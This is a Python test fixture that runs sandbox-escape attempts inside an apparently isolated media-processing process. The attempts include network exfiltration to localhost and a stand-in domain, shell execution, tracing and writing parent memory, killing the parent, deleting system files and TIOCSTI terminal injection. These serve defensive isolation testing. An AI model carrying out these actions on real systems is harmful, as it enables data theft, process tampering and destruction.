"""Things that the isolated process must not be able to do, done for real inside it.

``install`` is called in the isolated process before it locks itself in (see
tests/fault/test_isolation_attacks.py); the attack runs when the first picture leaves. If it
fails with an error of the system, the process says so as its last words; if it goes through
it says that.
"""

from __future__ import annotations

import ctypes
import dataclasses
import encodings.idna  # noqa: F401 - later nothing can be imported
import fcntl
import mmap
import os
import signal
import socket
import threading
import time
import urllib.request
from collections.abc import Callable, Iterator
from multiprocessing import resource_tracker, shared_memory
from pathlib import Path

import numpy as np

from homeveil.errors import IsolationError
from homeveil.frames import RawFrame, VeiledFrame
from homeveil.isolation import inside, messages
from homeveil.redactor import Redactor

DENIED = "attack denied"
WENT_THROUGH = "attack went through"

libc = ctypes.CDLL(None, use_errno=True)
_PARENT = os.getppid()
_MQ_OPEN, _PRLIMIT, _IOPRIO_SET, _TIOCSTI, _SET_SIGNAL = 240, 302, 251, 0x5412, 10
_GET_DUMPABLE, _SET_VALUE, _SET_FLAGS, _NO_DUMP = 3, 16, 0x40086602, 0x40
_NEWFSTATAT, _HERE, _EMPTY_PATH = 262, -100, 0x1000


def _c(result: int) -> int:
    if result == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def tcp(target: str) -> None:
    socket.create_connection(("127.0.0.1", int(target)), timeout=2).sendall(b"stolen")


def udp(target: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(b"stolen", ("127.0.0.1", int(target)))


def dns(target: str) -> None:
    socket.getaddrinfo("stolen.example.org", 80)


def http(target: str) -> None:
    urllib.request.urlopen(f"http://127.0.0.1:{target}/stolen", timeout=2)


def c_http(target: str) -> None:
    request = b"GET /stolen HTTP/1.0\r\n\r\n"
    handle = _c(libc.socket(2, 1, 0))
    address = b"\x02\x00" + int(target).to_bytes(2, "big") + b"\x7f\x00\x00\x01" + bytes(8)
    _c(libc.connect(handle, address, 16))
    _c(libc.send(handle, request, len(request), 0))


def abstract_unix(target: str) -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as out:
        out.connect("\0" + target)


def socket_pair(target: str) -> None:
    socket.socketpair()


def write_file(target: str) -> None:
    Path(target).write_bytes(b"stolen")


def c_write_file(target: str) -> None:
    _c(libc.open(target.encode(), os.O_WRONLY | os.O_CREAT, 0o600))


def append_file(target: str) -> None:
    os.open("/etc/hostname", os.O_RDWR | os.O_APPEND)


def read_file(target: str) -> None:
    Path("/etc/hostname").read_bytes()


def find_file(target: str) -> None:
    status = ctypes.create_string_buffer(256)
    _c(libc.syscall(_NEWFSTATAT, _HERE, b"/etc/hostname", status, _EMPTY_PATH))


def list_folder(target: str) -> None:
    os.listdir("/")


def make_folder(target: str) -> None:
    os.mkdir(target)


def remove_file(target: str) -> None:
    os.unlink("/etc/hostname")


def rename(target: str) -> None:
    os.rename("/etc/hostname", target)


def execute(target: str) -> None:
    os.execv("/bin/sh", ["sh", "-c", f"echo stolen > {target}"])


def spawn(target: str) -> None:
    os.posix_spawn("/bin/sh", ["sh", "-c", f"echo stolen > {target}"], {})


def fork(target: str) -> None:
    if os.fork() == 0:
        os._exit(0)


def ptrace_parent(target: str) -> None:
    _c(libc.ptrace(16, _PARENT, 0, 0))


def parent_memory(target: str) -> None:
    os.open(f"/proc/{_PARENT}/mem", os.O_RDWR)


def read_parent_memory(target: str) -> None:
    os.open(f"/proc/{_PARENT}/mem", os.O_RDONLY)


def own_memory_by_file(target: str) -> None:
    os.open("/proc/self/mem", os.O_RDWR)


def truncate_file(target: str) -> None:
    os.truncate("/etc/hostname", 0)


def link_file(target: str) -> None:
    os.link("/etc/hostname", target)


def process_vm(target: str) -> None:
    buffer = ctypes.create_string_buffer(8)
    pair = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 8)
    _c(libc.process_vm_writev(_PARENT, pair, 1, pair, 1, 0))


def kill_parent(target: str) -> None:
    os.kill(_PARENT, signal.SIGTERM)


def thread_kill_parent(target: str) -> None:
    _c(libc.syscall(234, _PARENT, _PARENT, 15))


def memory_file(target: str) -> None:
    os.memfd_create("stolen")


def named_memory(target: str) -> None:
    made = shared_memory.SharedMemory(name="stolen", create=True, size=64)
    resource_tracker.unregister(made.name, "shared_memory")


def posix_queue(target: str) -> None:
    _c(libc.syscall(_MQ_OPEN, b"stolen", os.O_RDWR | os.O_CREAT, 0o600, None))


def system_v_memory(target: str) -> None:
    _c(libc.shmget(4711, 4096, 0o1666))


def message_queue(target: str) -> None:
    _c(libc.msgget(4711, 0o1666))


def set_semaphore(target: str) -> None:
    _c(libc.semctl(int(target), 0, _SET_VALUE, 7))


def raise_semaphore(target: str) -> None:
    _c(libc.semop(int(target), (ctypes.c_short * 3)(0, 7, 0), 1))


def take_message(target: str) -> None:
    _c(libc.msgrcv(int(target), ctypes.create_string_buffer(64), 56, 0, 0))


def remove_queue(target: str) -> None:
    _c(libc.msgctl(int(target), 0, None))


def remove_posix_queue(target: str) -> None:
    _c(libc.mq_unlink(target.encode()))


def executable_memory(target: str) -> None:
    mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)


def io_uring(target: str) -> None:
    _c(libc.syscall(425, 4, ctypes.create_string_buffer(128)))


def other_descriptor(target: str) -> None:
    for handle in range(3, 64):
        try:
            os.fstat(handle)
        except OSError:
            continue
        if handle != _outgoing[0]:
            os.write(handle, b"stolen")


def from_a_thread(target: str) -> None:
    """The filter holds for every thread, also those made before it stood."""
    caught: list[BaseException] = []

    def work() -> None:
        try:
            socket.socket()
        except OSError as error:
            caught.append(error)

    thread = threading.Thread(target=work)
    thread.start()
    thread.join()
    if caught:
        raise caught[0]


def more_memory(target: str) -> None:
    """Beyond the limit: the system answers with an error, not with the machine's memory."""
    try:
        np.ones(2**33, np.uint8)
    except MemoryError as error:
        raise OSError(12, "no memory") from error


def be_dumped(target: str) -> None:
    """Be a process that others of the same user may trace and dump."""
    if libc.prctl(_GET_DUMPABLE, 0, 0, 0, 0) == 0:
        raise OSError(1, "not dumpable")


def be_dumpable(target: str) -> None:
    _c(libc.prctl(4, 1, 0, 0, 0))


def outlive_parent(target: str) -> None:
    _c(libc.prctl(1, 0, 0, 0, 0))


def name_itself(target: str) -> None:
    """Everybody may read the name of a process in /proc."""
    _c(libc.prctl(15, b"stolen", 0, 0, 0))


def set_attribute(target: str) -> None:
    os.setxattr(target, "user.stolen", b"stolen")


def set_attribute_of_link(target: str) -> None:
    os.setxattr(target, "user.stolen", b"stolen", follow_symlinks=False)


def remove_attribute(target: str) -> None:
    os.removexattr(target, "user.own")


def change_mode(target: str) -> None:
    os.chmod(target, 0o777)


def change_owner(target: str) -> None:
    os.chown(target, 4711, 4711)


def change_owner_of_link(target: str) -> None:
    os.lchown(target, 4711, 4711)


def change_times(target: str) -> None:
    os.utime(target, (1, 1))


def set_flags(target: str) -> None:
    flags = ctypes.c_long(_NO_DUMP)
    _c(libc.ioctl(os.open(target, os.O_RDONLY), _SET_FLAGS, ctypes.byref(flags)))


def lock_file(target: str) -> None:
    fcntl.flock(os.open(target, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)


def lock_part_of_file(target: str) -> None:
    fcntl.lockf(os.open(target, os.O_RDONLY), fcntl.LOCK_SH | fcntl.LOCK_NB)


def lease_file(target: str) -> None:
    """Have others wait that open it to write."""
    fcntl.fcntl(os.open(target, os.O_RDONLY), fcntl.F_SETLEASE, fcntl.F_RDLCK)


def change_limits(target: str) -> None:
    """Of the other process."""
    _c(libc.syscall(_PRLIMIT, _PARENT, 7, None, None))


def set_priority(target: str) -> None:
    _c(libc.setpriority(0, _PARENT, 19))


def signal_by_descriptor(target: str) -> None:
    """Have the kernel signal the other process when a pipe is read or written."""
    fcntl.fcntl(_outgoing[0], fcntl.F_SETOWN, _PARENT)


def signal_of_choice(target: str) -> None:
    fcntl.fcntl(_outgoing[0], _SET_SIGNAL, signal.SIGUSR1)


def choose_processor(target: str) -> None:
    """Of the other process."""
    os.sched_setaffinity(_PARENT, os.sched_getaffinity(_PARENT))


def choose_scheduler(target: str) -> None:
    os.sched_setscheduler(_PARENT, os.SCHED_OTHER, os.sched_param(0))


def choose_disk_priority(target: str) -> None:
    _c(libc.syscall(_IOPRIO_SET, 1, _PARENT, 0))


def type_into_terminal(target: str) -> None:
    _c(libc.ioctl(0, _TIOCSTI, b"x"))


def core_dump(target: str) -> None:
    """Die so that a core would be written."""
    os.abort()


ATTACKS: dict[str, Callable[[str], None]] = {
    name: function
    for name, function in list(globals().items())
    if callable(function)
    and getattr(function, "__module__", None) == __name__
    and not name.startswith("_")
}
_outgoing = [-1]


def install(name: str, target: str, *, first: bool = False) -> None:
    """Have the attack run when the first picture leaves; or, with ``first``, now: before
    anything was opened."""

    def attack(self: inside._Inside) -> None:
        _outgoing[0] = self._outgoing
        try:
            ATTACKS[name](target)
        except OSError:
            raise IsolationError(DENIED) from None
        raise IsolationError(WENT_THROUGH)

    if first:
        inside._Inside.run = lambda self, _: attack(self)  # type: ignore[method-assign]
    else:
        inside._Inside._send_picture = lambda self, *_: attack(self)  # type: ignore[method-assign]


def forge(hexes: str) -> None:
    """Have the isolated process send these bytes when the first picture leaves."""

    def send(self: inside._Inside, *_: object) -> None:
        os.write(self._outgoing, bytes.fromhex(hexes).ljust(messages.SIZE, b"\0"))
        threading.Event().wait()

    inside._Inside._send_picture = send  # type: ignore[method-assign]


def forge_sound(hexes: str) -> None:
    """Have the isolated process send these bytes in the place of its first sound."""

    def send(self: inside._Inside, *_: object) -> None:
        os.write(self._outgoing, bytes.fromhex(hexes).ljust(messages.SIZE, b"\0"))
        threading.Event().wait()

    inside._Inside._send_sound = send  # type: ignore[method-assign]


def spoil_sound(value: str) -> None:
    """Have it send samples that are no numbers, where an encoder would end."""
    honest = inside._Inside.tell

    def tell(self: inside._Inside, message: messages.Message) -> None:
        if isinstance(message, messages.Sound):
            self._slots.samples(message.slot, message.channels, message.count)[0, 0] = float(value)
        honest(self, message)

    inside._Inside.tell = tell  # type: ignore[method-assign]


def tear() -> None:
    """Have the isolated process end in the middle of a message."""

    def send(self: inside._Inside, *_: object) -> None:
        os.write(self._outgoing, messages.encode(messages.Done(0, 0, 0))[:100])
        os._exit(0)

    inside._Inside._send_picture = send  # type: ignore[method-assign]


def hang_up() -> None:
    """Have the isolated process close the pipe of its messages and go on."""

    def send(self: inside._Inside, *_: object) -> None:
        os.close(self._outgoing)
        threading.Event().wait()

    inside._Inside._send_picture = send  # type: ignore[method-assign]


def turn_back() -> None:
    """Have the clock jump back: every picture comes at the time of the first."""
    honest = inside._Inside.tell

    def tell(self: inside._Inside, message: messages.Message) -> None:
        if isinstance(message, messages.Picture):
            message = dataclasses.replace(message, pts=0)
        honest(self, message)

    inside._Inside.tell = tell  # type: ignore[method-assign]


def say_less() -> None:
    """Say that another number of pictures was read than came."""
    honest = inside._Inside.tell

    def tell(self: inside._Inside, message: messages.Message) -> None:
        if isinstance(message, messages.Done):
            message = messages.Done(message.frames + 1, message.damaged, message.cut)
        honest(self, message)

    inside._Inside.tell = tell  # type: ignore[method-assign]


def smuggle_in_cells() -> None:
    """Say of cells what they are with a byte that means nothing: six bits would be a channel."""
    honest = inside._Inside.tell

    def tell(self: inside._Inside, message: messages.Message) -> None:
        if isinstance(message, messages.Picture):
            self._slots.cells(message.slot, message.width, message.height)[:] = 65
        honest(self, message)

    inside._Inside.tell = tell  # type: ignore[method-assign]


def spin() -> None:
    """Use the processor and send nothing more, once locked in."""
    lock = inside._Inside._lock

    def locked(self: inside._Inside, landlock: int) -> None:
        lock(self, landlock)
        while True:
            pass

    inside._Inside._lock = locked  # type: ignore[method-assign]


def slow(seconds: float) -> None:
    """Look for so long at every frame."""
    quick = Redactor.process

    def process(self: Redactor, frame: RawFrame) -> Iterator[VeiledFrame]:
        time.sleep(seconds)
        return quick(self, frame)

    Redactor.process = process  # type: ignore[method-assign]
